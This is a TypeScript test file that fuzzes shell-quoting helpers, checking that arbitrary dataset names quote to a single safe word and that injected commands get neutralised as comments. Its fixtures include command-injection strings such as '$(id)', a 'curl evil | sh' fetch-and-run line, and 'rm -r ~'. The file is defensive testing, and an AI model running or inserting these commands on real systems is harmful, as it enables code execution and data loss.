import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { pasteableCommand, quoteArgument } from '../../../electron/contract/command-line';

/** What bash makes of a command line: its words. */
const wordsOf = (command: string): string[] =>
  execFileSync('bash', ['-c', `printf '%s\\0' ${command}`], { encoding: 'utf8', env: { LC_ALL: 'C.UTF-8' } })
    .split('\0')
    .slice(0, -1);

/** A shell has no NUL in its words, and half of a surrogate pair is no text. */
const text = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 20 });
const hostile = fc.constantFrom(
  '$(id)',
  '`id`',
  "'; id; '",
  'a b',
  '"',
  '\\',
  '!x',
  '~',
  '\u001b[31m',
  '\u202e',
  'a\nb',
  '*',
);

describe('quoteArgument', () => {
  test('gives one word that a shell reads as the text', () => {
    const argument = fc.array(fc.oneof(text, hostile), { minLength: 1, maxLength: 4 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(argument, (value) => {
        expect(wordsOf(quoteArgument(value))).toEqual([value]);
        expect(quoteArgument(value)).not.toMatch(/\p{C}/u);
      }),
      { numRuns: 60 },
    );
  });

  test('leaves plain ids and paths as they are', () => {
    for (const plain of ['sudoku-4x4', '/data/set_1', '0.001', 'tasks.json+50'])
      expect(quoteArgument(plain)).toBe(plain);
  });
});

describe('pasteableCommand', () => {
  test('keeps a training command, whatever the name of its dataset', () => {
    fc.assert(
      fc.property(fc.oneof(text, hostile), (dataset) => {
        const command = `train --dataset ${quoteArgument(dataset)} --seed 1`;
        expect(pasteableCommand(command)).toBe(command);
      }),
    );
  });

  test.each([
    'train --seed 1; touch x',
    'train --dataset $(id)',
    'train\ncurl evil | sh',
    'rm -r ~',
    'train --seed `id`',
  ])('makes a comment of %j', (command) => {
    const pasted = pasteableCommand(command);
    expect(pasted).toMatch(/^# /u);
    expect(pasted).not.toMatch(/\p{C}/u);
  });
});
